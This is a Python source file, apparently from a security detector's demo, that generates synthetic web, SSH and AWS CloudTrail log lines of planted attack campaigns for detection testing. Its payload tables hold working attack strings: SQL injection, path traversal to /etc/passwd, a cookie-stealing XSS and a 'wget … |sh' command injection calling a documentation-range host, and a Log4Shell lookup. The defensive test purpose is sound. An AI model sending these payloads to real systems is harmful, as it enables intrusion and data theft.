"""The attacks that are planted: a campaign at a time, each line of which is one to find.

Attackers come from the networks that RFC 5737 keeps for documentation, so that nobody takes them for visitors.
No line is like another: each carries its own number.
"""

from __future__ import annotations

from random import Random

from detector.demo.cloud import ACCOUNT, Call, Cloud
from detector.demo.hosts import HOSTS, Hosts
from detector.demo.lines import Attack, Log, Stamp, Topic

_NETWORKS = ("192.0.2", "198.51.100", "203.0.113")
_BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0"

_GUESSER = "Mozilla/5.0 (Hydra)"  # THC Hydra's own, which its users seldom change
_GUESSED = ("admin", "oracle", "postgres", "test", "ubuntu", "git", "jenkins", "ftpuser", "guest", "hadoop")
_SCANNERS = (
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:{:06d})",
    "sqlmap/1.8.{}#stable (https://sqlmap.org)",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei) {}",
    "gobuster/3.{}",
)
_HIDDEN = ("/.env", "/.git/config", "/.aws/credentials", "/wp-config.php.bak", "/.ssh/id_rsa", "/.htpasswd")
_INJECTIONS = (
    "/product?id={0}%27%20OR%20%27{0}%27=%27{0}",
    "/product?id=-{0}%20UNION%20SELECT%20username,password,{0}%20FROM%20users--",
    "/search?q=%27%20union+all+select+null,null,{0}+from+information_schema.tables--+-",
    "/category/shoes?page={0}%27;WAITFOR%20DELAY%20%270:0:5%27--",
    "/api/stock/{0}?store=1%20AND%20(SELECT%201%20FROM%20(SELECT(SLEEP(5)))a)",
)
_TRAVERSALS = (
    "/download?file=../../../../etc/passwd&v={}",
    "/static/..%2f..%2f..%2f..%2fetc%2fpasswd?{}",
    "/img/%2e%2e/%2e%2e/%2e%2e/etc/shadow?{}",
    "/view?page=....//....//....//etc/passwd%00{}",
)
_SCRIPTS = (
    "/search?q=%3Cscript%3Edocument.location=%27http://198.51.100.7/?c=%27%2Bdocument.cookie%3C/script%3E&s={}",
    "/blog/{}?comment=%3Cimg%20src=x%20onerror=alert(document.domain)%3E",
    "/search?q=%22%3E%3Csvg/onload=alert({})%3E",
)
_COMMANDS = (
    "/api/ping?host=127.0.0.1;cat%20/etc/passwd&n={}",
    "/cgi-bin/status?id={}%7C/bin/bash%20-c%20%27wget%20http://198.51.100.7/x%20-O-%7Csh%27",
    "/search?q=$%7Bjndi:ldap://198.51.100.7:1389/{}%7D",
)


class Campaigns:
    """All kinds in turn, in an order that the seed decides; `line` gives one planted log after the other."""

    def __init__(self, random: Random, hosts: Hosts, cloud: Cloud) -> None:
        self._random = random
        self._hosts = hosts
        self._cloud = cloud
        self._number = 0
        self._kinds: list[Attack] = []
        self._kind = Attack.WEB_SCANNER
        self._left = 0
        self._source = ""
        self._by_web = False

    def line(self, stamp: Stamp) -> Log:
        """The next planted log, at the time of `stamp`."""
        if not self._left:
            self._begin()
        self._left -= 1
        self._number += 1
        number = self._number
        match self._kind:
            case Attack.CREDENTIAL_STUFFING:
                if self._by_web:
                    return self._web(stamp, "/login", 401, _GUESSER, "POST")
                return self._guess(stamp, number)
            case Attack.WEB_SCANNER:
                if number & 1:
                    agent = _SCANNERS[number // 2 % 4].format(number)
                    return self._web(stamp, f"/{self._word()}.php?{number}", 404, agent)
                return self._web(stamp, f"{_HIDDEN[number // 2 % 6]}?{number}", 404)
            case Attack.SQL_INJECTION:
                return self._web(stamp, self._pick(_INJECTIONS).format(number), 500)
            case Attack.PATH_TRAVERSAL:
                return self._web(stamp, self._pick(_TRAVERSALS).format(number), 400)
            case Attack.CROSS_SITE_SCRIPTING:
                return self._web(stamp, self._pick(_SCRIPTS).format(number), 200)
            case Attack.COMMAND_INJECTION:
                return self._web(stamp, self._pick(_COMMANDS).format(number), 403)
            case Attack.AWS_ROOT_LOGIN:
                return self._root_login(stamp)
            case Attack.TRAIL_STOPPED:
                return self._stop_trail(stamp, number)

    def _begin(self) -> None:
        if not self._kinds:
            self._kinds = list(Attack)
            self._random.shuffle(self._kinds)
        self._kind = self._kinds.pop()
        self._left = _LENGTHS.get(self._kind, 1)
        self._by_web = self._random.random() < 0.5
        self._source = f"{self._pick(_NETWORKS)}.{1 + int(self._random.random() * 254)}"

    def _web(self, stamp: Stamp, path: str, status: int, agent: str = _BROWSER, method: str = "GET") -> Log:
        request = f'"{method} {path} HTTP/1.1" {status} {196 + self._number}'
        line = f'{self._source} - - [{stamp.apache}] {request} "-" "{agent}"'
        return Log(Topic.WEB, line.encode(), self._kind)

    def _guess(self, stamp: Stamp, number: int) -> Log:
        user = f"{self._pick(_GUESSED)}{number}"
        head = self._hosts.head(stamp, self._pick(HOSTS), self._hosts.process())
        line = f"{head}Failed password for invalid user {user} from {self._source} port {30_000 + number % 30_000} ssh2"
        return Log(Topic.AUTH, line.encode(), self._kind)

    def _root_login(self, stamp: Stamp) -> Log:
        identity = (
            f'{{"type":"Root","principalId":"{ACCOUNT}","arn":"arn:aws:iam::{ACCOUNT}:root","accountId":"{ACCOUNT}"}}'
        )
        event = self._cloud.console_login(stamp, identity, self._source, mfa=False)
        return Log(Topic.CLOUD, event.encode(), self._kind)

    def _stop_trail(self, stamp: Stamp, number: int) -> Log:
        identity = (
            f'{{"type":"IAMUser","principalId":"AIDAEXAMPLE{number}","userName":"contractor",'
            f'"arn":"arn:aws:iam::{ACCOUNT}:user/contractor","accountId":"{ACCOUNT}"}}'
        )
        trail = f'{{"name":"arn:aws:cloudtrail:eu-central-1:{ACCOUNT}:trail/organization"}}'
        call = Call("cloudtrail", "StopLogging", trail)
        event = self._cloud.of(stamp, call, identity, self._source)
        # Among harmless events of one delivery, as it comes in practice.
        events = [self._cloud.event(stamp), event, self._cloud.event(stamp)]
        return Log(Topic.CLOUD, self._cloud.records(events).encode(), self._kind)

    def _pick(self, among: tuple[str, ...]) -> str:
        return among[int(self._random.random() * len(among))]

    def _word(self) -> str:
        return f"{self._random.getrandbits(40):x}"


_LENGTHS = {
    Attack.CREDENTIAL_STUFFING: 9,
    Attack.WEB_SCANNER: 8,
    Attack.SQL_INJECTION: 4,
    Attack.PATH_TRAVERSAL: 3,
    Attack.CROSS_SITE_SCRIPTING: 3,
    Attack.COMMAND_INJECTION: 3,
}
